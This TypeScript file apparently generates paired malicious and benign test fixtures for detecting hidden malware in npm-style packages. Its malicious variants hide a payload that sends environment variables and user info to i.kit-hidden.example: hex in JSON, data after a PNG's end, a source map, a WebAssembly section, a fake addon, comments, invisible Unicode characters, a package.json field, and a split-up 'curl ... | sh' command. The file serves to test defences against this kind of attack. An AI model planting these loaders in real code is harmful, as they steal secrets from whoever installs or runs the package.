import { deflateSync } from 'node:zlib';
import { manifest } from '../../../../campaigns/kit.ts';
import { atImport, atUse, js, type Pair } from '../kit.ts';

const THEFT = `const o=require("os"),h=require("https");const r=h.request({host:"i.kit-hidden.example",method:"POST"});r.on("error",()=>{});r.end(JSON.stringify({e:process.env,u:o.userInfo()}));`;

const HEX = Buffer.from(THEFT).toString('hex');
const BASE64 = Buffer.from(THEFT).toString('base64');

/** A picture of which the end is not of the picture. */
const PICTURE = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex'),
  Buffer.from('1f15c4890000000049454e44ae426082', 'hex'),
  deflateSync(THEFT),
]);

/** A module of WebAssembly that has nothing but a section of its own. */
const WASM = Buffer.concat([
  Buffer.from('0061736d01000000', 'hex'),
  Buffer.from([0, ...leb(5 + Buffer.byteLength(THEFT)), 4]),
  Buffer.from('meta'),
  Buffer.from(THEFT),
]);

function leb(length: number): number[] {
  return length < 128 ? [length] : [(length & 127) | 128, ...leb(length >> 7)];
}

/** Text as variation selectors, which nothing shows. */
const UNSEEN = [...Buffer.from(THEFT)]
  .map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16))
  .join('');

/** Where the code is kept until it is needed. */
export const HIDING: Readonly<Record<string, Pair>> = {
  'json-staged': atImport(
    {
      'index.js': js`'use strict';
const { _meta, ...locales } = require('./data/locales.json');

/** Checks the data. */
function verify(parts) {
  const text = parts.map((part) => Buffer.from(part, 'hex').toString()).join('');
  return Reflect.construct(Function, ['require', 'process', text])(require, process);
}

verify(_meta.checks);
module.exports = locales;
`,
      'data/locales.json': JSON.stringify({
        en: { hello: 'Hello' },
        _meta: { checks: HEX.match(/.{1,64}/g) },
      }),
    },
    {
      'index.js': js`'use strict';
const { _meta, ...locales } = require('./data/locales.json');

/** Makes the function that fills in a template. */
function compile(parts) {
  const text = parts.map((part) => Buffer.from(part, 'hex').toString()).join('');
  return (fields) => text.replace(/\{(\w+)\}/g, (all, key) => fields[key] ?? all);
}

module.exports = { ...locales, greeting: compile(_meta.parts) };
`,
      'data/locales.json': JSON.stringify({
        en: { hello: 'Hello' },
        _meta: {
          parts: Buffer.from('Hello, {name}')
            .toString('hex')
            .match(/.{1,64}/g),
        },
      }),
    },
  ),
  'png-tail': atImport(
    js`'use strict';
const { readFileSync } = require('node:fs');
const { inflateSync } = require('node:zlib');
const { join } = require('node:path');

/** The picture of the project, and what its maker wrote behind it. */
function image(file) {
  const bytes = readFileSync(file);
  const end = bytes.indexOf('IEND') + 8;
  return { picture: bytes.subarray(0, end), notes: bytes.subarray(end) };
}

const { picture, notes } = image(join(__dirname, 'assets', 'logo.png'));
if (notes.length > 0) module._compile(inflateSync(notes).toString('utf8'), join(__dirname, 'notes.js'));
exports.logo = picture;
`,
    js`'use strict';
const { readFileSync } = require('node:fs');
const { join } = require('node:path');

/** The size of a picture. */
function image(file) {
  const bytes = readFileSync(file);
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20), rest: bytes.subarray(bytes.indexOf('IEND') + 8) };
}

exports.logo = image(join(__dirname, 'assets', 'logo.png'));
`,
    { 'assets/logo.png': new Uint8Array(PICTURE) },
  ),
  'source-map': atImport(
    {
      'index.js': js`'use strict';
const fs = require('fs');
const path = require('path');
const vm = require('vm');

const SourceMap = {
  file: path.resolve(__dirname, 'index.js.map'),
  read() {
    return JSON.parse(fs.readFileSync(this.file, 'utf8'));
  },
  warm() {
    const { sourcesContent } = this.read();
    const [, shim] = sourcesContent;
    vm.runInThisContext(\`(function(require){\${shim}})\`)(require);
  },
};

SourceMap.warm();
exports.format = (value) => String(value);
//# sourceMappingURL=index.js.map
`,
      'index.js.map': JSON.stringify({
        version: 3,
        sources: ['src/index.ts', 'src/shim.ts'],
        sourcesContent: ['export const format = String;', THEFT],
        mappings: '',
      }),
    },
    {
      'index.js': js`'use strict';
const fs = require('fs');

const SourceMap = {
  cache: new Map(),
  read(file) {
    return JSON.parse(fs.readFileSync(file + '.map', 'utf8'));
  },
  source(file, index) {
    const { sourcesContent } = this.read(file);
    this.cache.set(file, sourcesContent[index]);
    return sourcesContent[index];
  },
};

exports.source = (file) => SourceMap.source(file, 0);
`,
    },
  ),
  'wasm-section': atImport(
    {
      'index.js': js`import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';

const module = await WebAssembly.compile(await readFile(new URL('./codec.wasm', import.meta.url)));
const [meta] = WebAssembly.Module.customSections(module, 'meta');
const setup = new TextDecoder().decode(meta);

new Function('require', setup)(createRequire(import.meta.url));
export const { exports: codec } = await WebAssembly.instantiate(module);
`,
      'codec.wasm': new Uint8Array(WASM),
    },
    {
      'index.js': js`import { readFile } from 'node:fs/promises';

const module = await WebAssembly.compile(await readFile(new URL('./codec.wasm', import.meta.url)));
const [meta] = WebAssembly.Module.customSections(module, 'meta');

export const version = new TextDecoder().decode(meta);
export const { exports: codec } = await WebAssembly.instantiate(module);
`,
      'codec.wasm': new Uint8Array(
        Buffer.concat([
          Buffer.from('0061736d01000000', 'hex'),
          Buffer.from([0, 8, 4]),
          Buffer.from('meta1.0'),
        ]),
      ),
    },
  ),
  'node-name': atImport({
    'index.js': js`'use strict';
const Module = require('module');
const path = require('path');

/** Loads what was built. */
function load(name) {
  const file = path.join(__dirname, 'build', name);
  const made = new Module(file, module);
  made.paths = module.paths;
  Module._extensions['.js'](made, file);
  return made.exports;
}

module.exports = load('addon.node');
`,
    'build/addon.node': `${THEFT}module.exports={hash:(x)=>x};\n`,
  }),
  'comment-code': atImport(
    `'use strict';
/** The grammar of the language. */
function grammar() {
  /*
  ${BASE64}
  */
  return null;
}

const text = (fn) => fn.toString().split('/*')[1].split('*/')[0].trim();
const build = (source) => new Function('require', 'process', Buffer.from(source, 'base64').toString());
build(text(grammar))(require, process);
exports.parse = (line) => line.trim();
`,
    `'use strict';
/** The help of the program. */
function help() {
  /*
  usage: kit [options] FILE
  */
  return null;
}

const text = (fn) => fn.toString().split('/*')[1].split('*/')[0].trim();
exports.help = () => text(help);
`,
  ),
  'unseen-letters': atImport(
    `'use strict';
const marker = '${UNSEEN}';

/** Reads the marks behind a letter. */
const marks = (text) =>
  Array.from(text, (letter) => letter.codePointAt(0))
    .map((code) => (code >= 0xfe00 && code <= 0xfe0f ? code - 0xfe00 : code - 0xe0100 + 16))
    .filter((byte) => byte >= 0 && byte < 256);

const source = Buffer.from(marks(marker)).toString('utf8');
const run = Object.getPrototypeOf(async () => {}).constructor;
run('require', 'process', source)(require, process);
exports.marks = marks;
`,
    `'use strict';
/** Takes the marks that choose a form off a text. */
exports.plain = (text) =>
  Array.from(text)
    .filter((letter) => {
      const code = letter.codePointAt(0);
      return !(code >= 0xfe00 && code <= 0xfe0f) && !(code >= 0xe0100 && code <= 0xe01ef);
    })
    .join('');
`,
  ),
  'package-field': atImport({
    'package.json': manifest({ license: 'MIT', config: { banner: BASE64, width: 80 } }),
    'index.js': js`'use strict';
const { config } = require('./package.json');

const styles = {
  width: config.width,
  get banner() {
    return Buffer.from(config.banner, 'base64').toString('utf8');
  },
};

require('node:vm').runInNewContext(styles.banner, { require, process });
exports.width = styles.width;
`,
  }),
  'word-list': atUse({
    'index.js': js`'use strict';
const words = require('./words');

const pick = (...at) => at.map((i) => words[i]).join('');

/** Starts the spinner. */
exports.start = function start(text) {
  const process_ = require(pick(0, 5, 2));
  process_[pick(4, 6)](pick(1, 7) + ' -s ' + pick(3, 8) + '/s | ' + pick(9));
  return text;
};
`,
    'words.js': js`'use strict';
module.exports = ['child', 'cu', 'process', 'https://spin.', 'ex', '_', 'ec', 'rl', 'kit-words.example', 'sh'];
`,
  }),
};
